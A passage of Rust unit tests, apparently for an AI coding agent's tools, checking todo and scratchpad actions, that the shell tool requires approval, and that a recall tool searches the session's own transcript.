        let t = todo(&mut s, &json!({"action": "done", "number": 1})).unwrap();
        assert_eq!(t, "1. [x] write tests\n2. [ ] ship");
        assert!(todo(&mut s, &json!({"action": "done", "number": 9})).is_err());
        assert!(todo(&mut s, &json!({"action": "done", "number": 0})).is_err());
        scratchpad(&mut s, &json!({"action": "write", "text": "a"})).unwrap();
        assert_eq!(
            scratchpad(&mut s, &json!({"action": "append", "text": "b"})).unwrap(),
            "a\nb"
        );
        assert!(needs_approval("shell") && !needs_approval("todo"));
        assert_eq!(tool_specs().len(), 7);
    }

    #[test]
    fn recall_searches_the_sessions_own_transcript() {
        let d = tempfile::tempdir().unwrap();
        let store = volee_store::Store::new(d.path().join("s"));
        let mut w = store
            .create(volee_store::NewSession {
                title: "t".into(),
                project_root: d.path().into(),
                model: "m".into(),
            })
            .unwrap();
        w.push_message(volee_store::Message::user(
            "the flaky test is net::retry_backoff",
        ))
        .unwrap();
        w.checkpoint().unwrap();
        let text = recall(&store, w.id(), &json!({"query": "FLAKY test"})).unwrap();
        assert!(text.starts_with("1 transcript line contains"), "{text}");
        assert!(
            text.contains("#1: the flaky test is net::retry_backoff"),
            "{text}"
        );
        let none = recall(&store, w.id(), &json!({"query": "absent"})).unwrap();
        assert!(none.starts_with("no line"), "{none}");
        assert!(recall(&store, w.id(), &json!({"query": " "})).is_err());
    }
}
